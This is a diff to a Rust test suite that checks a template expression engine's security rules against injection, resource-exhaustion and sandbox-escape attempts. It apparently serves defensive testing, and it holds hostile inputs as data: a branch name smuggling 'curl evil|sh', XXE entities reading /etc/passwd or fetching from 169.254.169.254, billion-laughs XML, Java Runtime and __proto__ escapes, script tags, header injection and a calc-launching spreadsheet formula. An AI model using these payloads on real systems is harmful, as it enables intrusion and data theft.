@@ -13,7 +13,7 @@ impl Context for World {
     fn lookup(&self, path: &[Segment]) -> Option<Value> {
         match path {
             [Segment::Key(name)] if name == "big" => Some("a".repeat(200_000).into()),
-            [Segment::Key(name), ..] if name == "x" => Some(Value::Int(1)),
+            [Segment::Key(a), Segment::Key(b)] if a == "x" && b == "y" => Some(Value::Int(1)),
             _ => None,
         }
     }
@@ -23,6 +23,9 @@ impl Context for World {
             [Segment::Key(name), Segment::Key(n)] if name == "loop" => {
                 let n: u64 = n.parse().ok()?;
                 Some(format!("<+loop.{}>", n + 1))
+            }
+            [Segment::Key(name), Segment::Key(n)] if name == "self" => {
+                Some(format!("x<+self.{}>", if n == "a" { "b" } else { "a" }))
             }
             _ => None,
         }
@@ -36,18 +39,100 @@ fn evaluate(text: &str) -> Result<Value, String> {
         .map_err(|error| error.full_text())
 }
 
+fn refused(cases: &[(String, &str)]) {
+    for (text, part) in cases {
+        let message = evaluate(text).expect_err(text.get(..60).unwrap_or(text));
+        assert!(message.contains(part), "{text:.60}: {message:.400}");
+    }
+}
+
+/// SECURITY X1, as far as expressions go: what a run brings is data, whatever it looks like. It is not
+/// evaluated a second time, not even where an expression stands for a part of another.
 #[test]
-fn limits_hold() {
+fn x1_values_of_a_run_are_never_evaluated() {
+    let texts = [
+        r#"main";curl evil|sh;#"#,
+        "$(id)",
+        "`id`",
+        "-rf",
+        "--upload-pack=x",
+        r#"<+secrets.getValue("account.root")>"#,
+        "<+<+x.y>>",
+        "${x.y}",
+        "{{x.y}}",
+        "\"+secrets.getValue('account.root')+\"",
+        "a>b<+",
+    ];
+    for text in texts {
+        let world = Branch(text);
+        for (source, expected) in [
+            ("<+trigger.branch>", text.to_owned()),
+            ("b <+trigger.branch> e", format!("b {text} e")),
+            ("<+<+trigger.branch> + \"!\">", format!("{text}!")),
+            ("<+\"<+trigger.branch>\".concat('!')>", format!("{text}!")),
+            ("<+[<+trigger.branch>].get(0)>", text.to_owned()),
+            ("<+for (b : [<+trigger.branch>]) { b }>", text.to_owned()),
+            (
+                r#"<+json.object(json.format({"a": <+trigger.branch>})).a>"#,
+                text.to_owned(),
+            ),
+            (r#"<+"x".replaceAll("x", "\\$0")>"#, "$0".to_owned()),
+        ] {
+            let template = parse(source).expect("well formed");
+            let value = template.evaluate(&world, &Limits::default());
+            assert_eq!(value, Ok(Value::String(expected)), "{source} with {text}");
+        }
+        let condition = condition("<+trigger.branch> == \"main\"", &world, &Limits::default());
+        assert_eq!(condition, Ok(false), "{text}");
+        // A name that is computed is one name, not a path and not an expression.
+        let computed = parse("<+trigger.<+trigger.branch>>").expect("well formed");
+        let error = computed
+            .evaluate(&world, &Limits::default())
+            .expect_err("no such name");
+        assert!(
+            error.full_text().contains("not defined"),
+            "{}",
+            error.full_text()
+        );
+    }
+}
+
+/// Knows what the trigger's branch is called.
+struct Branch(&'static str);
+
+impl Context for Branch {
+    fn lookup(&self, path: &[Segment]) -> Option<Value> {
+        let names: Vec<_> = path.iter().filter_map(Segment::key).collect();
+        (names == ["trigger", "branch"]).then(|| self.0.into())
+    }
+}
+
+/// SECURITY X3.
+#[test]
+fn x3_size_and_nesting_are_limited() {
     let deep =
         |open: &str, close: &str| format!("<+{}1{}>", open.repeat(10_000), close.repeat(10_000));
     let doubled = format!("<+{}>", vec!["<+big>"; 200].join("+"));
-    let cases = [
-        (deep("(", ")"), "levels of nesting"),
-        (deep("[", "]"), "levels of nesting"),
-        (deep("<+", ">"), "levels of nesting"),
-        (deep("true?1:", ""), "levels of nesting"),
-        (deep("a[", "]"), "levels of nesting"),
-        ("<+loop.0>".to_owned(), "levels of nesting"),
+    let nested = "levels of nesting";
+    let steps = "steps of evaluation";
+    refused(&[
+        (deep("(", ")"), nested),
+        (deep("[", "]"), nested),
+        (deep("{a:", "}"), nested),
+        (deep("<+", ">"), nested),
+        (deep("true?1:", ""), nested),
+        (deep("a?:", ""), nested),
+        (deep("a[", "]"), nested),
+        (deep("a.b(", ")"), nested),
+        (deep("empty ", ""), nested),
+        (deep("if (1) ", ""), nested),
+        (deep("for (a : b) {", "}"), nested),
+        (deep("\"<+", ">\""), nested),
+        ("<+loop.0>".to_owned(), nested),
+        (
+            "<+self.a>".to_owned(),
+            "refers to itself: self.a -> self.b -> self.a",
+        ),
         (doubled, "bytes in one value"),
         (
             "<+big.replace('a', <+big>)>".to_owned(),
@@ -57,41 +142,182 @@ fn limits_hold() {
             "<+big.replaceAll('a', <+big>)>".to_owned(),
             "bytes in one value",
         ),
+        (
+            "<+\"a\".repeat(1000000000)>".to_owned(),
+            "bytes in one value",
+        ),
+        (
+            "<+\"\".join(<+big>, [1,2,3])>".to_owned(),
+            "bytes in one value",
+        ),
         ("<+\"a\"*1000000000>".to_owned(), "works on two numbers"),
+        ("<+range(1000000000000)>".to_owned(), "has no range(_)"),
+        ("<+1..1000000000000>".to_owned(), "expected"),
         ("<+big =~ \"(a{1000}){1000}\">".to_owned(), "too large"),
+        ("<+big =~ \"(a{1,99}){1,99}\">".to_owned(), steps),
+        (format!("<+[{}]>", "<+big>,".repeat(1000)), steps),
+        (format!("<+1{}>", "+x.y".repeat(200_000)), steps),
+        (format!("<+{}>", "big.length()+".repeat(200) + "0"), steps),
         (
-            format!("<+[{}]>", "<+big>,".repeat(1000)),
-            "steps of evaluation",
+            format!("<+{}1>", "json.format(big.split('')).length()+".repeat(9)),
+            steps,
         ),
         (
-            format!("<+1{}>", "+x.y".repeat(200_000)),
-            "steps of evaluation",
+            format!(
+                "<+{}1{}>",
+                "for (i : big.split('')) { ".repeat(3),
+                "}".repeat(3)
+            ),
+            steps,
         ),
-        ("<+range(1000000000000)>".to_owned(), "expected"),
+        (format!("<+x{}>", ".y".repeat(500_000)), "not defined"),
+    ]);
+}
+
+/// SECURITY X3: XML and JSON that grow or nest when they are read.
+#[test]
+fn x3_documents_inside_of_strings_are_limited() {
+    let laughs = r#"<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>"#;
+    let file = r#"<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>"#;
+    let dtd = r#"<!DOCTYPE a SYSTEM "http://169.254.169.254/x.dtd"><a/>"#;
+    let deep = |n: usize| format!("{}{}", "<a>".repeat(n), "</a>".repeat(n));
+    let wide = format!("<r>{}</r>", "<a/>".repeat(30_000));
+    let xml = |path: &str, text: &str| format!("<+xml.select('{path}', '{text}')>");
+    let steps = "steps of evaluation";
+    refused(&[
+        (xml("/a", laughs), "document type"),
+        (xml("/a", file), "document type"),
+        (xml("/a", dtd), "document type"),
+        (xml("/a", "<a>&b;</a>"), "not XML"),
+        (xml("//*//*//*//*", &deep(2000)), steps),
+        (xml("//a[//a[//a[//a]]]", &wide), steps),
+        (xml("//a/following::a/preceding::a", &wide), steps),
+        (xml("count(//a | //a | //a) = //a[. = //a]", &wide), steps),
         (
-            "<+T(java.lang.Runtime).getRuntime()>".to_owned(),
-            "expected",
+            xml(&format!("/{}", "a/".repeat(3000)), "<a/>"),
+            "longer than",
         ),
-        ("<+big.__proto__.constructor>".to_owned(), "not defined"),
+        (xml(&"(".repeat(1000), "<a/>"), "levels deep"),
+        (xml(&"not(".repeat(1000), "<a/>"), "levels deep"),
+        (xml(&"a[".repeat(1000), "<a/>"), "levels deep"),
+        (xml("concat($x, 1)", "<a/>"), "no variables"),
+        (
+            format!("<+json.object('{}')>", "[".repeat(100_000)),
+            "not JSON",
+        ),
+        (
+            format!(
+                "<+json.select('{}', '{}')>",
+                "..*".repeat(20),
+                "[".repeat(100) + &"]".repeat(100)
+            ),
+            steps,
+        ),
+    ]);
+    // A deep document is no deep recursion.
+    let depth = evaluate(&xml("count(//a)", &deep(30_000)));
+    assert_eq!(depth, Ok(Value::Int(30_000)));
+}
+
+/// SECURITY X4.
+#[test]
+fn x4_nothing_of_the_host_can_be_reached() {
+    let cases = [
+        "T(java.lang.Runtime).getRuntime()",
+        "big.getClass()",
+        "big.getClass().forName('java.lang.Runtime')",
+        "big.class",
+        "big.__proto__.constructor",
+        "x.constructor",
+        "[].constructor",
+        "{}.__proto__",
+        "''.getBytes()",
+        "new('java.io.File', '/etc/passwd')",
+        "new java.io.File('/')",
+        "java.lang.System.getenv('HOME')",
+        "System.getenv()",
+        "env.HOME",
+        "process.env",
+        "Math.random()",
+        "random()",
+        "currentTime()",
+        "datetime.now()",
+        "import('fs')",
+        "require('fs')",
+        "eval('1')",
+        "configFile.getAsString('/etc/passwd')",
+        "fileStore.getAsString('/etc/passwd')",
+        "xml.select(\"document('/etc/passwd')\", '<a/>')",
+        "secrets.getValue('../../x y')",
+        "this",
+        "#{1}",
+        "x -> x",
+        "var y = 1",
+        "pipeline = 1",
     ];
-    for (text, part) in cases {
-        let message = evaluate(&text).expect_err("a limit");
-        assert!(message.contains(part), "{:.60}: {message:.400}", text);
+    for case in cases {
+        let outcome = evaluate(&format!("<+{case}>"));
+        assert!(outcome.is_err(), "{case}: {outcome:?}");
     }
 }
 
+/// SECURITY X6: never an empty text, whatever stands around it.
 #[test]
-fn long_but_flat_expressions_are_fine() {
-    assert_eq!(
-        evaluate(&format!("<+0{}>", "+1".repeat(20_000))),
-        Ok(Value::Int(20_000))
-    );
-    assert_eq!(
-        evaluate(&format!("<+{}true>", "!".repeat(20_000))),
-        Ok(Value::Bool(true))
-    );
-    let many = "<+x.y> > ".repeat(50_000);
-    assert_eq!(evaluate(&many), Ok(Value::String("1 > ".repeat(50_000))));
+fn x6_what_is_not_known_is_never_empty() {
+    for text in [
+        "<+missing>",
+        "<+env.missing>",
+        "a<+missing>",
+        "<+missing>b",
+        "<+\"\" + <+missing>>",
+        "<+\"<+missing>\">",
+        "<+[<+missing>]>",
+        "<+{a: <+missing>}>",
+        "<+missing.trim()>",
+        "<+true?<+missing>:1>",
+        "<+x.y.z>",
+        "<+json.format(<+missing>)>",
+        "<+json.object('{}').a>",
+        "<+json.select('a', '{}')>",
+        "<+xml.select('/b', '<a/>')>",
+        "<+regex.extract('b', 'a')>",
+    ] {
+        let outcome = evaluate(text);
+        assert!(outcome.is_err(), "{text}: {outcome:?}");
+        let document = evaluate_json(&json!({"env": text}), &World, &Limits::default());
+        assert!(document.is_err(), "{text}");
+    }
+}
+
+/// SECURITY X8, X10 and X11 are about where a value goes; here it must arrive as it is, so that whoever
+/// writes it knows what to escape.
+#[test]
+fn x8_x10_x11_texts_for_other_places_stay_as_they_are() {
+    for text in [
+        "<script>alert(1)</script>",
+        "<!channel> [a](javascript:b)",
+        "Subject\r\nBcc: x@example.com",
+        "=cmd|' /C calc'!A0",
+        "\u{1b}[2J\u{1b}]8;;http://x\u{7}",
+        "a\rb\0c",
+        "\u{FDD0}account.root\u{FDD1}",
+    ] {
+        let value = json!({ "t": format!("{text}<+x.y>") });
+        let (value, secrets) =
+            evaluate_json(&value, &World, &Limits::default()).expect("well formed");
+        assert!(secrets.is_empty());
+        let read = SecretText::decode(value["t"].as_str().expect("a string"));
+        assert_eq!(read.pieces(), [Piece::Plain(format!("{text}1"))]);
+    }
+}
+
+/// A document of many costly texts costs no more than a few of them.
+#[test]
+fn a_document_shares_its_steps() {
+    let costly = format!("<+1{}>", "+x.y".repeat(30_000));
+    let document = json!(vec![costly; 100]);
+    let error = evaluate_json(&document, &World, &Limits::default()).expect_err("too much");
+    assert!(error.full_text().contains("steps of evaluation"));
 }
 
 #[test]
